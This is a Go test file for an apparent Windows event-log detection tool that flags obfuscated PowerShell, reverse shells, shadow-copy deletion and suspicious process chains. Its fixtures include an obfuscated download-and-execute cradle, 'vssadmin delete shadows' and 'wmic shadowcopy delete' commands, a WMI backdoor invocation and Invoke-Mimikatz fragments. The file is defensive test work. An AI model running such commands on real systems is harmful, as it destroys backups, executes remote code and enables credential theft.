			db.QueryRow(`SELECT count(*) FROM findings WHERE title LIKE 'PowerShell reverse-shell%'`).Scan(&n)
			db.QueryRow(`SELECT count(*) FROM finding_evidence WHERE finding_id =
				(SELECT min(id) FROM findings WHERE title LIKE 'PowerShell reverse-shell%')`).Scan(&evidence)
			if n != tt.findings || evidence != tt.evidence {
				t.Errorf("%d reverse-shell findings with %d evidence rows, want %d with %d", n, evidence, tt.findings, tt.evidence)
			}
			var night string
			db.QueryRow(`SELECT title FROM findings WHERE analyzer = 't1059-interpreters' AND title LIKE '%outside business hours%'`).Scan(&night)
			if !strings.HasPrefix(night, tt.night) {
				t.Errorf("out-of-hours finding %q, want it to start %q", night, tt.night)
			}
		})
	}
}

// TestObfuscationScoredOnReassembledScript: a script logged in two 4104
// parts is scored once, on the whole text, and the finding cites both
// parts; ordinary code scores low.
func TestObfuscationScoredOnReassembledScript(t *testing.T) {
	obfuscated := "&('I'+'EX')(`N`e`W-`O`B`j`E`c`T ('N'+'et.'+'Web'+'Cli'+'ent')).('Dow'+'nload'+'Str'+'ing').Invoke(('ht'+'tp://x'));" +
		"$c=[char[]](73,69,88);$d=\"{1}{0}\" -f 'ex','I';" +
		"i`Nv`O`k`E-`E`x`P`R`e`S`s`I`o`N ([char]105+[char]101+[char]120)"
	half := len(obfuscated) / 2
	part := func(n int, text string) ev {
		return ev{provider: "Microsoft-Windows-PowerShell", eventID: 4104, level: 5, data: map[string]any{
			"ScriptBlockId": "obf", "MessageNumber": fmt.Sprint(n), "MessageTotal": "2", "ScriptBlockText": text}}
	}
	db := newTimeline(t, []ev{part(1, obfuscated[:half]), part(2, obfuscated[half:])})
	if _, err := Run(context.Background(), db, Options{}); err != nil {
		t.Fatal(err)
	}
	var n, score, evidence int
	var features string
	db.QueryRow(`SELECT count(*), max(score), max(features) FROM findings WHERE title LIKE 'Obfuscated PowerShell script block%'`).Scan(&n, &score, &features)
	db.QueryRow(`SELECT count(*) FROM finding_evidence WHERE finding_id = (SELECT id FROM findings WHERE title LIKE 'Obfuscated PowerShell script block%')`).Scan(&evidence)
	if n != 1 || score < 50 || evidence != 2 {
		t.Errorf("%d obfuscation findings, score %d, %d evidence rows; want 1, ≥ 50, 2", n, score, evidence)
	}
	for _, feature := range []string{"backticks", "concatenations", "format_operators", "char_codes", "case_flip_ratio", "entropy"} {
		if !strings.Contains(features, `"`+feature+`"`) {
			t.Errorf("features %s lack %s", features, feature)
		}
	}
	plain := "function Get-Report {\n  param([string]$Path)\n  $items = Get-ChildItem -Path $Path -Recurse -File\n" +
		"  foreach ($item in $items) {\n    Write-Output (\"{0}: {1} bytes\" -f $item.Name, $item.Length)\n  }\n}\nGet-Report -Path C:\\Data\n"
	if s, f := obfuscationScore(plain); s >= 40 {
		t.Errorf("ordinary code scores %d: %v", s, f)
	}
}

// TestIncidentChains: an incident ties a command line to the script block
// of the file it ran, and a script host's process event to its prefetch
// run.
func TestIncidentChains(t *testing.T) {
	wscript := `C:\Windows\System32\wscript.exe`
	db := newTimeline(t, []ev{
		{provider: "Microsoft-Windows-Sysmon", eventID: 1, process: ps, parent: cmd, ts: "2024-03-05T10:00:00Z",
			cmd: `powershell.exe -Exec ByPasS ". C:\TMP\WMIBackdoor.ps1;New-WMIBackdoorTrigger"`},
		{provider: "Microsoft-Windows-PowerShell", eventID: 4104, level: 3, ts: "2024-03-05T10:00:02Z", data: map[string]any{
			"ScriptBlockId": "w", "MessageNumber": "1", "MessageTotal": "1", "Path": `C:\TMP\WMIBackdoor.ps1`, "ScriptBlockText": "function New-WMIBackdoorTrigger {}"}},
		{provider: "Microsoft-Windows-Sysmon", eventID: 1, process: wscript, parent: expl, ts: "2024-03-05T12:00:00.500Z",
			cmd: `wscript.exe C:\Users\Public\en-US.js`},
		func() ev {
			e := wshPrefetch("WSCRIPT.EXE", `\VOLUME{1}\WINDOWS\SYSTEM32\JSCRIPT.DLL`)
			e.ts = "2024-03-05T12:00:00.497Z"
			return e
		}(),
	})
	if _, err := Run(context.Background(), db, Options{}); err != nil {
		t.Fatal(err)
	}
	var links string
	db.QueryRow(`SELECT links FROM incidents WHERE links LIKE '%file:wmibackdoor.ps1%'`).Scan(&links)
	if links == "" {
		t.Error("the command line and the script block of the file it ran are not one incident")
	}
	var sources string
	db.QueryRow(`SELECT group_concat(e.source, ',') FROM finding_evidence fe JOIN events e ON e.id = fe.event_id
		WHERE fe.finding_id = (SELECT id FROM findings WHERE title = 'wscript.exe ran a script from a user-writable folder')`).Scan(&sources)
	if sources != "evtx,prefetch" {
		t.Errorf("the wscript finding cites %q, want its Sysmon 1 record and its prefetch run", sources)
	}
}

// TestPrefetchRunsJoinTheirStarts: two starts of one program 0.3 s apart
// each cite the prefetch run time nearest to them, not both.
func TestPrefetchRunsJoinTheirStarts(t *testing.T) {
	at := func(e ev, ts string) ev { e.ts = ts; return e }
	run := ev{source: "prefetch", process: `\VOLUME{1}\WINDOWS\SYSTEM32\CMD.EXE`}
	db := newTimeline(t, []ev{
		at(sysmon1(cmd, expl, `cmd.exe /c vssadmin delete shadows /all /quiet`), "2024-03-05T10:00:00.000Z"),
		at(sysmon1(cmd, expl, `cmd.exe /c wmic shadowcopy delete /nointeractive`), "2024-03-05T10:00:00.300Z"),
		at(run, "2024-03-05T10:00:00.290Z"),
		at(run, "2024-03-05T10:00:00.010Z"),
		at(run, "2024-03-05T10:00:09.000Z"),
	})
	if _, err := Run(context.Background(), db, Options{}); err != nil {
		t.Fatal(err)
	}
	got := queryStrings(t, db, `SELECT group_concat(fe.record_id, ',') FROM findings f JOIN finding_evidence fe ON fe.finding_id = f.id
		WHERE f.title = 'cmd.exe /c shadow-copy-deletion' GROUP BY f.id ORDER BY f.id`)
	// Record ids are the events' positions above, from 1.
	if want := []string{"1,4", "2,3"}; strings.Join(got, " ") != strings.Join(want, " ") {
		t.Errorf("evidence record ids %v, want %v", got, want)
	}
}

func TestJoinedBase64Text(t *testing.T) {
	payload := []string{"IyBUaGlzIHNjcmlwdCBpcyBhIHBheWxvYWQgY2Fy", "cmllZCBpbiBzZXJ2aWNlIG5hbWVzLgpJbnZva2Ut", "RXhwcmVzc2lvbiAkY29kZQo="}
	if text, complete, ok := joinedBase64Text(payload); !ok || !complete || !strings.HasPrefix(text, "# This script is a payload") {
		t.Errorf("payload not decoded: %q %v %v", text, complete, ok)
	}
	// A piece lost from the log: the text up to it is still shown.
	gap := []string{payload[0], payload[1], payload[2][2:]}
	if text, complete, ok := joinedBase64Text(gap); !ok || complete || !strings.HasPrefix(text, "# This script is a payload carried in service names.") {
		t.Errorf("partial payload: %q %v %v", text, complete, ok)
	}
	for _, names := range [][]string{
		{"Spooler", "Acme"}, // too short to be a payload
		{"PSEXESVCPSEXESVCPSEXESVCPSEXESVC", "RemComSvcRemComSvcRemComSvcRemComSvcAAAA"}, // valid base64, binary
		{"Windows Update Medic Service", "Microsoft Defender Antivirus Network Inspection"},
	} {
		if text, _, ok := joinedBase64Text(names); ok {
			t.Errorf("%v decoded to %q", names, text)
		}
	}
}

// TestWarnedBlockIsOneFinding: a script block logged in three parts, each
// at Warning level, is one finding citing the three.
func TestWarnedBlockIsOneFinding(t *testing.T) {
	part := func(n int) ev {
		return ev{provider: "Microsoft-Windows-PowerShell", eventID: 4104, level: 3, data: map[string]any{"ScriptBlockId": "m",
			"MessageNumber": fmt.Sprint(n), "MessageTotal": "3", "ScriptBlockText": fmt.Sprintf("part %d of Invoke-Mimikatz", n), "Path": `C:\TMP\m.ps1`}}
	}
	db := newTimeline(t, []ev{part(1), part(2), part(3)})
	if _, err := Run(context.Background(), db, Options{}); err != nil {
		t.Fatal(err)
	}
	var n, evidence int
	var matched string
	db.QueryRow(`SELECT count(*), max(matched) FROM findings WHERE title = 'Script block Windows logged as suspicious (4104 Warning): C:\TMP\m.ps1'`).Scan(&n, &matched)
	db.QueryRow(`SELECT count(*) FROM finding_evidence WHERE finding_id = (SELECT id FROM findings WHERE title LIKE 'Script block Windows logged%')`).Scan(&evidence)
	if n != 1 || evidence != 3 || matched != "part 1 of Invoke-Mimikatz" {
		t.Errorf("%d findings citing %d records, matched %q; want 1 citing 3, the first part", n, evidence, matched)
	}
}

// TestRepeatsFold: a server that starts cmd.exe for each piece of a payload
// gives one finding that cites every start and quotes every command line.
func TestRepeatsFold(t *testing.T) {
	sql := `C:\Program Files\Microsoft SQL Server\MSSQL\Binn\sqlservr.exe`
	var events []ev
	for i := 0; i < 3; i++ {
		events = append(events, sysmon1(cmd, sql, fmt.Sprintf(`cmd.exe /c echo TVqQAAMAAAAEAAAA%d >> %%TEMP%%\p.b64`, i)))
	}
	events = append(events, ev{provider: "Microsoft-Windows-Sysmon", eventID: 1, process: cmd, parent: sql, cmd: "cmd.exe /c whoami", ts: "2024-03-05T11:00:00Z"})
	db := newTimeline(t, events)
	if _, err := Run(context.Background(), db, Options{}); err != nil {
		t.Fatal(err)
	}
	got := queryStrings(t, db, `SELECT f.title || ' | ' || (length(f.matched) - length(replace(f.matched, char(10), '')) + 1) || ' lines | ' ||
		count(fe.event_id) || ' records' FROM findings f JOIN finding_evidence fe ON fe.finding_id = f.id
		WHERE f.title LIKE 'cmd.exe started by sqlservr.exe%' GROUP BY f.id ORDER BY f.id`)
	want := []string{
		"cmd.exe started by sqlservr.exe (database server), 3 times within 2s | 3 lines | 3 records",
		"cmd.exe started by sqlservr.exe (database server) | 1 lines | 1 records", // an hour later: a new finding
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("got\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

func rankOf(name string) timeline.Severity {
	s, _ := timeline.ParseSeverity(name)
	return s
}

// TestFoldRepeatsAmongMany: a detection repeated every minute among
// thousands of findings that never repeat folds into one finding, across
// the sweeps of groups that take no more, and a repeat after the window
// starts a finding of its own.
func TestFoldRepeatsAmongMany(t *testing.T) {
	start := time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC)
	var fs []Finding
	id := int64(0)
	add := func(ts time.Time, title, matched string) {
		id++
		fs = append(fs, Finding{Host: "h", TS: ts, Title: title, Rule: "r", Matched: matched, EventIDs: []int64{id}})
	}
	for i := 0; i < 5000; i++ {
		ts := start.Add(time.Duration(i) * time.Second)
		add(ts, fmt.Sprintf("once %d", i), "x")
		if i%60 == 0 {
			add(ts, "repeated", fmt.Sprintf("m%d", i%120))
		}
	}
	add(start.Add(5000*time.Second+10*time.Minute), "repeated", "late")
	out := foldRepeats(fs, 5*time.Minute)
	var repeated []Finding
	for _, f := range out {
		if strings.HasPrefix(f.Title, "repeated") {
			repeated = append(repeated, f)
		}
	}
	if len(out) != 5000+2 || len(repeated) != 2 {
		t.Fatalf("%d findings, %d of the repeated detection; want 5002 and 2", len(out), len(repeated))
	}
	f := repeated[0]
	if n := f.Features["repeats"]; n != 84 || f.Features["matched_texts_quoted"] != 2 || len(f.EventIDs) != 84 || f.Matched != "m0\nm60" {
		t.Errorf("folded: repeats %v, quoted %v, %d records, matched %q", n, f.Features["matched_texts_quoted"], len(f.EventIDs), f.Matched)
	}
	if repeated[1].Matched != "late" || repeated[1].Features != nil {
		t.Errorf("the late repeat: %+v", repeated[1])
	}
}
